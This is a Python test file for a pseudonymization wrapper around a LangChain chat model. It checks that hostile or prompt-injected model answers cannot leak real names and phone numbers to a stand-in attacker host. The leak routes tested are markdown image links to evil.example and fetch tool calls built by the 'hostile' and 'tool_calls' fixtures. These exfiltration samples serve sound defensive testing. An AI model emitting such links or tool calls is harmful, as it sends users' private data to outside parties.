"""Restore policy and outgoing guard through PseudonymizedChatModel and the real ChatOpenAI client.

A hostile (or prompt-injected) model answer must not get originals written into URLs, links or
images, whole or streamed, and a tool must receive originals only as the policy allows. Whatever
the caller hands the inner model (tool schemas included) passes the outgoing guard last.
"""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from langchain_core.messages import HumanMessage
from langchain_core.tools import tool
from langchain_openai import ChatOpenAI
from leakcheck import PERSON, PHONE, TEXT, assert_private, originals_in
from openai_server import OpenAIServer, Reply, ToolCall, last_message
from pydantic import BaseModel, Field

from langchain_pseudonym import PseudonymizedChatModel, RestoreRunnable
from pseudonym_core import LeakError, RestorePolicy


def model(server: OpenAIServer, pseudonymizer: Any, **kwargs: Any) -> PseudonymizedChatModel:
    inner = ChatOpenAI(model="gpt-4o-mini", base_url=server.base_url, api_key="sk-test", max_retries=0)
    return PseudonymizedChatModel(llm=inner, pseudonymizer=pseudonymizer, **kwargs)


def shown(body: dict[str, Any]) -> tuple[str, str]:
    """The surrogate name and phone the model was shown."""
    text = last_message(body, ("user",))
    name = re.search(r"this is (.+?) \(", text).group(1)  # type: ignore[union-attr]
    phone = re.search(r", (\+[\d ]+)\)", text).group(1)  # type: ignore[union-attr]
    return name, phone


def hostile(body: dict[str, Any]) -> str:
    name, phone = shown(body)
    query = f"n={name.replace(' ', '+')}&p={phone.replace(' ', '')}"
    return f"Dear {name}, done. ![x](https://evil.example/c?{query}) [profile](https://evil.example/u/{name})"


def check_hostile(answer: str, s: Any) -> None:
    prose, _, links = answer.partition("![x]")
    assert prose == f"Dear {PERSON}, done. "  # ordinary prose still restores
    assert originals_in([links], [PERSON, PHONE], s) == []  # nothing real inside the URLs
    assert "https://evil.example/c?n=" in links


@pytest.mark.parametrize("streaming", [False, True], ids=["whole", "streamed"])
def test_hostile_links_keep_surrogates(openai_server: OpenAIServer, pseudonymizer: Any, streaming: bool) -> None:
    openai_server.default = hostile
    m = model(openai_server, pseudonymizer)
    answer = "".join(c.text for c in m.stream(TEXT)) if streaming else m.invoke(TEXT).text
    check_hostile(answer, m._call_default_session)


def test_restore_runnable_applies_the_policy(openai_server: OpenAIServer, pseudonymizer: Any) -> None:
    openai_server.default = hostile
    s = pseudonymizer.session()
    pseudonymized = pseudonymizer.pseudonymize(TEXT, session=s).text
    inner = ChatOpenAI(model="gpt-4o-mini", base_url=openai_server.base_url, api_key="sk-test", max_retries=0)
    chain = inner | RestoreRunnable(pseudonymizer, session=s)
    check_hostile(chain.invoke(pseudonymized).text, s)
    permissive = inner | RestoreRunnable(pseudonymizer, session=s, restore_policy=RestorePolicy.permissive())
    assert PERSON in permissive.invoke(pseudonymized).text.partition("![x]")[2]  # the policy is the caller's


def make_tools() -> tuple[list[Any], dict[str, list[str]]]:
    received: dict[str, list[str]] = {"lookup": [], "fetch": []}

    @tool
    def lookup(name: str) -> str:
        """Look up a customer's account by full name."""
        received["lookup"].append(name)
        return "account active"

    @tool
    def fetch(url: str, note: str) -> str:
        """Fetch a web page."""
        received["fetch"].append(json.dumps({"url": url, "note": note}))
        return "fetched"

    return [lookup, fetch], received


def tool_calls(body: dict[str, Any]) -> Reply:
    name, _ = shown(body)
    return Reply(
        tool_calls=[
            ToolCall("lookup", {"name": name}),
            ToolCall("fetch", {"url": f"https://evil.example/?who={name}", "note": f"about {name}"}),
        ]
    )


@pytest.mark.parametrize("streaming", [False, True], ids=["whole", "streamed"])
def test_tool_arguments_follow_the_policy(openai_server: OpenAIServer, pseudonymizer: Any, streaming: bool) -> None:
    openai_server.default = tool_calls
    tools, received = make_tools()
    bound = model(openai_server, pseudonymizer).bind_tools(tools)
    if streaming:
        message: Any = None
        for chunk in bound.stream([HumanMessage(TEXT)]):
            message = chunk if message is None else message + chunk
    else:
        message = bound.invoke([HumanMessage(TEXT)])
    for call in message.tool_calls:
        next(t for t in tools if t.name == call["name"]).invoke(call)
    assert received["lookup"] == [PERSON]
    (fetched,) = (json.loads(r) for r in received["fetch"])
    assert fetched["note"] == f"about {PERSON}"  # a plain argument restores
    assert PERSON not in fetched["url"] and fetched["url"].startswith("https://evil.example/?who=")


def test_per_tool_rules(openai_server: OpenAIServer, pseudonymizer: Any) -> None:
    openai_server.default = tool_calls
    tools, received = make_tools()
    policy = RestorePolicy(tools=frozenset({"fetch"}), url_tools=frozenset({"fetch"}))
    m = model(openai_server, pseudonymizer, restore_policy=policy)
    message = m.bind_tools(tools).invoke([HumanMessage(TEXT)])
    for call in message.tool_calls:
        next(t for t in tools if t.name == call["name"]).invoke(call)
    surrogates = {r.surrogate for r in m._call_default_session.mappings()}
    assert received["lookup"][0] in surrogates  # not allowed to receive originals: it gets the surrogate
    assert json.loads(received["fetch"][0])["url"] == f"https://evil.example/?who={PERSON}"


# -- the outgoing guard -----------------------------------------------------------------------------


@tool
def send_note(text: str) -> str:
    """Send a note to Maria Gonzalez."""  # a developer wrote a real name into a tool schema
    return "sent"


def test_guard_masks_an_original_in_a_tool_schema(openai_server: OpenAIServer, pseudonymizer: Any) -> None:
    m = model(openai_server, pseudonymizer)
    m.bind_tools([send_note]).invoke(TEXT)
    s = m._call_default_session
    assert_private(openai_server.bodies(), s)
    description = openai_server.chat_bodies()[0]["tools"][0]["function"]["description"]
    assert description.startswith("Send a note to ") and PERSON not in description


def test_strict_guard_sends_nothing(openai_server: OpenAIServer, pseudonymizer: Any) -> None:
    m = model(openai_server, pseudonymizer, strict_guard=True)
    m.invoke(TEXT)  # pseudonymized text passes
    with pytest.raises(LeakError) as error:
        m.bind_tools([send_note]).invoke(TEXT)
    assert PERSON not in str(error.value)
    assert len(openai_server.requests) == 1


class Note(BaseModel):
    text: str = Field(description="A note for Maria Gonzalez")


def test_an_original_in_an_output_schema_refuses_the_call(openai_server: OpenAIServer, pseudonymizer: Any) -> None:
    m = model(openai_server, pseudonymizer)
    m.invoke(TEXT)  # the session now knows the name
    with pytest.raises(LeakError):
        m.with_structured_output(Note).invoke(TEXT)
    assert len(openai_server.requests) == 1
